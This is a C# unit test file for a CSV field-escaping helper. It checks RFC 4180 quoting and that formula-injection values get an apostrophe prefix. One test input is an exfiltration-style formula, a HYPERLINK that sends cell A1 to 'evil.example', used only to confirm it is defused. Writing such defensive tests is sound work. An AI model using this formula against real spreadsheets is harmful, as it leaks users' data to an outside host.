using Geofence.ServiceDefaults.Csv;

namespace Geofence.ServiceDefaults.Tests;

/// <summary>CSV that a spreadsheet opens as text: RFC 4180 quoting and formula injection defused.</summary>
public sealed class CsvFieldTests
{
    [Theory]
    [InlineData("Nguyen Van A", "Nguyen Van A")]
    [InlineData(null, "")]
    [InlineData("", "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("1+1", "1+1")]
    public void A_field_is_quoted_only_when_it_holds_a_comma_a_quote_or_a_line_break(string? value, string written) =>
        Assert.Equal(written, CsvField.Escape(value));

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+84901234567", "'+84901234567")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    public void A_field_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe(string value, string written) =>
        Assert.Equal(written, CsvField.Escape(value));

    [Fact]
    public void A_formula_with_commas_and_quotes_is_both_defused_and_quoted()
    {
        const string name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"", CsvField.Escape(name));
    }

    [Fact]
    public void A_row_joins_its_escaped_fields_with_commas_and_ends_with_crlf_empty_fields_included()
    {
        Assert.Equal("1,,=x is fine?,\"a,b\"\r\n".Replace("=x", "'=x", StringComparison.Ordinal), CsvField.Row("1", null, "=x is fine?", "a,b"));
        Assert.Equal(",b\r\n", CsvField.Row(null, "b"));
    }
}
